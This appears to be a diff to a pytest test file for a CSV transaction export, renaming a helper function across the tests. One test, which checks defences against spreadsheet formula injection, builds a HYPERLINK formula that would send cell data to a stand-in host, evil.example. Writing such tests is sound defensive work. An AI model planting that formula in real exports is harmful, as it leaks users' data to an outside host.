@@ -28,7 +28,7 @@ def account(item: Item) -> Account:
     return make_account(item)
 
 
-def written(user: User) -> list[list[str]]:
+def export_rows(user: User) -> list[list[str]]:
     rows = Transaction.objects.for_user(user).current().select_related("account")
     return list(islice(csv.reader(csv_export.csv_lines(owner_id=user.pk, rows=rows)), MOST_LINES))
 
@@ -44,7 +44,7 @@ def test_it_says_what_each_row_is(alice: User, account: Account) -> None:
         user_category="TRAVEL",
         note="Flughafen, Tor „B“",
     )
-    head, body = written(alice)
+    head, body = export_rows(alice)
     assert dict(zip(head, body, strict=True)) == {
         "Date": "2026-11-09",
         "Posted": "2026-11-10",
@@ -61,7 +61,7 @@ def test_it_says_what_each_row_is(alice: User, account: Account) -> None:
 
 def test_it_gives_a_pending_row_no_day_of_posting(alice: User, account: Account) -> None:
     make_transaction(account, "-4.33", pending=True)
-    head, body = written(alice)
+    head, body = export_rows(alice)
     facts = dict(zip(head, body, strict=True))
     assert (facts["Posted"], facts["Status"]) == ("", "pending")
 
@@ -84,7 +84,7 @@ def test_it_writes_an_amount_with_all_its_digits_and_no_others(
     alice: User, account: Account, amount: str, text: str
 ) -> None:
     make_transaction(account, amount)
-    head, body = written(alice)
+    head, body = export_rows(alice)
     assert body[head.index("Amount")] == text
 
 
@@ -93,7 +93,7 @@ def test_it_lets_no_text_run_in_a_spreadsheet(alice: User, item: Item, start: st
     attack = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
     account = make_account(item, name=attack, mask="", currency=f"{start}1+1")
     make_transaction(account, "-1", merchant_name=attack, category=attack, note=attack)
-    head, body = written(alice)
+    head, body = export_rows(alice)
     facts = dict(zip(head, body, strict=True))
     # Category names are put into words first, which changes their case.
     assert facts["Category"].startswith(f"'{start}")
@@ -109,12 +109,12 @@ def test_it_lets_no_text_run_in_a_spreadsheet(alice: User, item: Item, start: st
 def test_it_keeps_a_text_that_looks_like_several_cells_in_one(alice: User, account: Account) -> None:
     note = 'a,"b"\r\n=c;d\te'
     make_transaction(account, "-1", note=note)
-    head, *bodies = written(alice)
+    head, *bodies = export_rows(alice)
     assert [dict(zip(head, body, strict=True))["Note"] for body in bodies] == [note]
 
 
 def test_it_writes_only_the_head_when_there_is_nothing(alice: User) -> None:
-    assert written(alice) == [list(csv_export.COLUMNS)]
+    assert export_rows(alice) == [list(csv_export.COLUMNS)]
 
 
 def test_it_writes_every_row_once_and_newest_first_over_many_chunks(alice: User, account: Account) -> None:
@@ -122,7 +122,7 @@ def test_it_writes_every_row_once_and_newest_first_over_many_chunks(alice: User,
     # Seven days for 2,001 rows, so that every chunk ends in the middle of a day.
     rows = [build_transaction(account, f"-{n + 1}", id=uuid4(), day=first + timedelta(days=n % 7)) for n in range(2001)]
     make_transactions(account, rows)
-    _, *bodies = written(alice)
+    _, *bodies = export_rows(alice)
     expected = sorted(rows, key=lambda row: (row.day, row.id.int), reverse=True)
     assert [UUID(body[-1]) for body in bodies] == [row.id for row in expected]
     assert sum(Decimal(body[5]) for body in bodies) == -sum(range(1, 2002))
@@ -146,7 +146,7 @@ def test_it_asks_once_for_each_chunk(alice: User, account: Account, monkeypatch:
     monkeypatch.setattr(csv_export, "CHUNK_SIZE", 10)
     make_transactions(account, [build_transaction(account, "-1") for _ in range(30)])
     with CaptureQueriesContext(connection) as asked:
-        written(alice)
+        export_rows(alice)
     assert sum(query["sql"].startswith("SELECT") for query in asked) == 3
 
 
@@ -162,4 +162,4 @@ def test_it_leaves_neither_a_transaction_nor_a_tenant_open_between_lines(alice: 
 
 def test_it_writes_no_row_of_somebody_else(mallory: User, account: Account) -> None:
     make_transaction(account, "-1")
-    assert written(mallory) == [list(csv_export.COLUMNS)]
+    assert export_rows(mallory) == [list(csv_export.COLUMNS)]
